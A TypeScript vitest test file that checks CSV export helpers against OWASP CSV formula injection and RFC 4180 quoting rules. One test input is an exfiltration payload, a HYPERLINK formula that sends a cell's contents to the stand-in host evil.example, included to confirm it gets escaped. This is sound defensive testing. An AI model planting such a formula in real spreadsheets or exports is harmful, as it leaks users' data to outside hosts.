import { describe, expect, it } from 'vitest';
import { csvCell, csvText } from '../../openapi/csv';

describe('csvCell (OWASP CSV injection, RFC 4180)', () => {
  it('prefixes text starting with = + - @ tab or CR with a single quote', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+33 6 12')).toBe("'+33 6 12");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('leaves other text, numbers and empty cells as they are', () => {
    expect(csvCell('Sara = Amal')).toBe('Sara = Amal');
    expect(csvCell('عائشة')).toBe('عائشة');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('quotes cells with quotes, commas, semicolons or line breaks, doubling the quotes', () => {
    expect(csvCell('a "b"')).toBe('"a ""b"""');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('=HYPERLINK("https://evil.example/?d="&C3,"Open")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?d=""&C3,""Open"")"`,
    );
  });
});

describe('csvText', () => {
  it('writes a BOM, comma-separated cells and CRLF after every line', () => {
    expect(
      csvText([
        ['a', 1],
        ['=x', null],
      ]),
    ).toBe("\uFEFFa,1\r\n'=x,\r\n");
    expect(csvText([['a']], { bom: false })).toBe('a\r\n');
  });
});
